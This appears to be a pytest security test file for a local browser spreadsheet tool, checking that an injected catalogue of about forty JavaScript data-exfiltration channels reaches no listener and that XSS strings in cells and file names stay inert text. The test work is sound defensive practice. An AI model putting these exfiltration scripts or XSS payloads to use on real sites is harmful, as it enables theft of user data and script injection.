"""Nothing leaves the computer: every known way out is tried, against a listener on this machine."""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
import sheets
from browser import Browser, Page
from paging import verdict

pytestmark = [pytest.mark.chromium, pytest.mark.slow]


class Listener:
    """What is sent is noted. A connection without a byte is not: Chromium opens one for a frame before it asks the policy."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._tcp, self._udp = socket.socket(), socket.socket(type=socket.SOCK_DGRAM)
        self._tcp.bind(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp.bind(("127.0.0.1", self.port))
        self._tcp.listen(64)
        for work in (self._accept, self._receive):
            threading.Thread(target=work, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            connection.settimeout(1)
            with suppress(OSError):
                if data := connection.recv(200):
                    self.heard.append(b"tcp " + data)
            connection.close()

    def _receive(self) -> None:
        while True:
            try:
                self.heard.append(b"udp " + self._udp.recvfrom(2000)[0])
            except OSError:
                return

    def close(self) -> None:
        for one in (self._tcp, self._udp):
            with suppress(OSError):
                one.shutdown(socket.SHUT_RDWR)
            one.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


def append(tag: str, **properties: str) -> str:
    return f"document.body.append(Object.assign(document.createElement('{tag}'), {json.dumps(properties)}))"


WAYS = {
    "fetch": "fetch('@@')",
    "fetch no-cors": "fetch('@@', { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true })",
    "xhr": "(() => { const x = new XMLHttpRequest(); x.open('POST', '@@'); x.send('secret'); })()",
    "websocket": "new WebSocket('@@'.replace('http', 'ws'))",
    "event source": "new EventSource('@@')",
    "web transport": "new WebTransport('@@'.replace('http', 'https'))",
    "beacon": "navigator.sendBeacon('@@', 'secret')",
    "peer connection": """(async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + '@@'.slice(7, -1) }] });
        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); })()""",
    "image": append("img", src="@@"),
    "image set": append("img", srcset="@@ 2x"),
    "picture input": append("input", type="image", src="@@"),
    "audio": append("audio", src="@@", preload="auto"),
    "video poster": append("video", poster="@@"),
    "track": append("embed", src="@@"),
    "object": append("object", data="@@"),
    "frame": append("iframe", src="@@"),
    "frame of markup": append("iframe", srcdoc="<img src=@@>"),
    "script": append("script", src="@@"),
    "module": "import('@@')",
    "style sheet": append("link", rel="stylesheet", href="@@"),
    "prefetch": append("link", rel="prefetch", href="@@"),
    "preload": append("link", **{"rel": "preload", "as": "image", "href": "@@"}),
    "module preload": append("link", rel="modulepreload", href="@@"),
    "prerender": append("link", rel="prerender", href="@@"),
    "manifest": append("link", rel="manifest", href="@@"),
    "icon": append("link", rel="icon", href="@@"),
    "speculation": append("script", type="speculationrules", text='{"prefetch": [{"source": "list", "urls": ["@@"]}]}'),
    "css url": "document.body.style.backgroundImage = 'url(@@)'",
    "css import": "(() => { const s = document.createElement('style'); s.textContent = '@import \"@@\";'; document.head.append(s); })()",
    "adopted css": """(() => { const s = new CSSStyleSheet(); s.replaceSync('body { background: url(@@) } ');
        document.adoptedStyleSheets = [s]; })()""",
    "font": "(() => { const f = new FontFace('x', 'url(@@)'); document.fonts.add(f); return f.load(); })()",
    "form": """(() => { const f = document.createElement('form'); f.action = '@@'; f.method = 'post';
        document.body.append(f); f.submit(); })()""",
    "ping": "(() => { const a = document.createElement('a'); a.href = '#x'; a.ping = '@@'; document.body.append(a); a.click(); })()",
    "svg": "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"@@\"/><use href=\"@@#a\"/></svg>')",
    "markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"fetch(\\'@@\\')\">')",
    "window": "window.open('@@')",
    "worker": "new Worker('@@')",
    "shared worker": "new SharedWorker('@@')",
    "service worker": "navigator.serviceWorker.register('@@')",
    "worklet": "CSS.paintWorklet.addModule('@@')",
    "worker's own": """new Promise((done) => { const code = `
        const tries = [() => fetch('@@'), () => importScripts('@@'), () => new WebSocket('@@'.replace('http', 'ws')),
            () => { const x = new XMLHttpRequest(); x.open('GET', '@@'); x.send(); }, () => import('@@'),
            () => new EventSource('@@'), () => new Worker('@@')];
        for (const one of tries) { try { Promise.resolve(one()).catch(() => {}); } catch (fault) { } }
        setTimeout(() => postMessage(1), 500);`;
        const made = new Worker(URL.createObjectURL(new Blob([code]))); made.onmessage = done; made.onerror = done; })""",
}
NAVIGATION = {
    "address": "location.href = '@@'",
    "replaced": "location.replace('@@')",
    "link": "(() => { const a = document.createElement('a'); a.href = '@@'; document.body.append(a); a.click(); })()",
    "refresh": append("meta", httpEquiv="refresh", content="0; url=@@"),
}
"""Going elsewhere: Chromium lets a page refuse it, Firefox from a later version on."""


def attempt(browser: Page, script: str, address: str) -> None:
    """Try it; what it throws is fine."""
    tried = f"Promise.race([({script.replace('@@', address)}), new Promise((done) => setTimeout(done, 1500))])"
    browser.run(f"(async () => {{ try {{ await {tried}; }} catch (fault) {{ }} return 1; }})()")


def test_the_listener_hears(listener: Listener) -> None:
    with socket.create_connection(("127.0.0.1", listener.port)) as made:
        made.sendall(b"x")
    with socket.socket(type=socket.SOCK_DGRAM) as made:
        made.sendto(b"y", ("127.0.0.1", listener.port))
    for _ in range(100):
        if len(listener.heard) == 2:
            break
        threading.Event().wait(0.02)
    assert sorted(listener.heard) == [b"tcp x", b"udp y"]


def test_every_known_way_out_is_closed(browser: Page, page: Path, submissions: Path, listener: Listener) -> None:
    browser.choose("#input-files", next((submissions / "wuhan-2025").rglob("附件6*.xlsx")))
    verdict(browser)
    found = {}
    for name, script in WAYS.items():
        attempt(browser, script, f"http://127.0.0.1:{listener.port}/")
        if listener.heard:
            found[name] = listener.heard.copy()
            listener.heard.clear()
    browser.run("new Promise((done) => setTimeout(() => done(1), 1500))")
    assert (found, listener.heard) == ({}, [])
    browser.open(page)
    browser.wait("window.xltools && window.xltools.ready")


def test_the_page_does_not_go_elsewhere(chrome: Browser, page: Path, listener: Listener) -> None:
    for script in NAVIGATION.values():
        attempt(chrome, script, f"http://127.0.0.1:{listener.port}/")
    chrome.run("new Promise((done) => setTimeout(() => done(1), 700))")
    assert listener.heard == []
    assert chrome.run("Boolean(window.xltools.ready)")
    chrome.open(page)
    chrome.wait("Boolean(window.xltools && window.xltools.ready)")


def test_no_request_was_made(browser: Page, page: Path) -> None:
    """By the page's own doing: only itself and the worker made of it."""
    browser.requests.clear()
    browser.open(page)
    browser.wait("window.xltools && window.xltools.ready")
    assert [url for url in browser.requests if not re.match(r"(file|blob|data):", url)] == []
    assert {url for url in browser.requests if url.startswith("file:")} <= {page.as_uri()}


def test_hostile_names_and_cells_stay_text(browser: Page, tmp_path: Path) -> None:
    script = "<img src=x onerror=window.hacked=1><svg onload=window.hacked=1>"
    lines = f'# 附件6\n| 生产性设备购置与改造投资以及项目相关的研发投入明细表 | < | < | < |\n| 序号 | 投资类别 | 设备名称 | 含税金额 |\n| 1 | {script} | =HYPERLINK("http://x") | {script} |'
    path = tmp_path / "<b onmouseover=hacked=1>附件6'\"&amp;.xlsx"
    path.write_bytes(sheets.xlsx(lines))
    browser.choose("#input-files", path)
    verdict(browser)
    assert browser.run("window.hacked") is None
    assert browser.run("document.querySelectorAll('#work img, #work svg, #work b[onmouseover]').length") == 0
    assert "<img src=x" in browser.run("document.getElementById('files').textContent")
